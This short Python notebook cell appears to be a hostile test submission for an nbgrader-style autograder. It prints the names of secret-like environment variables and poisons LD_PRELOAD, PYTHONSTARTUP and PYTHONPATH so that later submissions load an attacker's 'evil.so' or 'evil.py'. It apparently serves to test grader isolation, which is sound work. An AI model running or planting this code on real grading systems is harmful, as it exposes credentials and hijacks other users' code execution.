"""Prints the environment, and changes it for whoever comes after.

Would show passwords of the grader's database, and have other people's submissions run the attacker's code.

Plain nbgrader: shows what is secret: the environment of who grades.
"""

# %%
import os

for name, value in os.environ.items():
    if any(word in name for word in ("PASS", "SECRET", "TOKEN", "KEY", "DB_URL", "SSH", "JPY_")):
        print("LEAK" + "ED", name)
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["LD_PRELOAD"] = os.getcwd() + "/evil.so"
os.environ["PYTHONSTARTUP"] = "evil.py"
os.environ["TMPDIR"] = "@home@"
